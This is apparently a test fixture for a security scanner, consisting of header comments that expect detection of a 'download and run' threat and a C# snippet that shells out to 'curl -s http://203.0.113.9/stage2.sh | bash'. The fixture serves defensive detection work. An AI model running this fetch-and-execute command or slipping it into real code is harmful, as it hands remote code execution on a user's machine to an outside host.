// expect: detected
// threat: 28 download and run
// at: source
// family: execution
// severity: high
// decision: refused

var command = "curl -s http://203.0.113.9/stage2.sh | bash";
Process.Start(new ProcessStartInfo { FileName = "/bin/sh", Arguments = $"-c \"{command}\"", UseShellExecute = false })!.WaitForExit();
